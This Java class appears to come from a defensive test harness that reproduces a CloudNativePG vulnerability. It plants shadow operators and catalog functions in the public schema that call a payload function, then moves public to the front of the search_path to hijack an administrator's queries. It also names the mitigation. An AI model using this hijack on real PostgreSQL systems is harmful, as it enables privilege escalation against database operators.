// Copyright The Howdah Authors
// SPDX-License-Identifier: Apache-2.0
package dev.howdah.attack;

import dev.howdah.attack.Administration.Habit;
import java.sql.SQLException;
import java.util.List;

/** CVE-2026-55769 of CloudNativePG: a better match in a schema that comes first. */
final class OverloadOperators implements Attack {
    @Override
    public int number() {
        return 3;
    }

    @Override
    public String title() {
        return "overload operators and functions that the admin uses, and put them first in the search_path";
    }

    @Override
    public String wall() {
        return "search_path=pg_catalog,pg_temp in the startup packet; no ALTER DATABASE for the team";
    }

    @Override
    public void mount(Scene scene) throws SQLException {
        scene.attacker.sql(scene.payload());
        var operands = List.of("name text", "name varchar", "name name", "text text", "oid oid");
        for (var types : operands) {
            var left = types.substring(0, types.indexOf(' '));
            var right = types.substring(types.indexOf(' ') + 1);
            scene.attacker.sql("""
                    CREATE FUNCTION public.equals(%1$s, %2$s) RETURNS boolean LANGUAGE sql VOLATILE
                      AS 'SELECT CASE WHEN public.gain() THEN $1::pg_catalog.text OPERATOR(pg_catalog.=) $2::pg_catalog.text END';
                    CREATE OPERATOR public.= (LEFTARG = %1$s, RIGHTARG = %2$s, FUNCTION = public.equals)
                    """.formatted(left, right));
        }
        // Names that the operator's own queries call.
        for (var function : new String[] {
            "pg_get_userbyid(oid) RETURNS name", "to_regrole(text) RETURNS regrole",
                    "pg_relation_size(regclass) RETURNS bigint",
            "current_setting(text) RETURNS text", "pg_is_in_recovery() RETURNS boolean",
                    "pg_database_size(oid) RETURNS bigint"
        }) {
            scene.attacker.sql("CREATE FUNCTION public." + function
                    + " LANGUAGE plpgsql VOLATILE AS 'BEGIN PERFORM public.gain(); RETURN NULL; END'");
        }
        scene.setOnDatabase("search_path = public, pg_catalog");
        scene.visit(Habit.LOOKS_UP);
    }
}
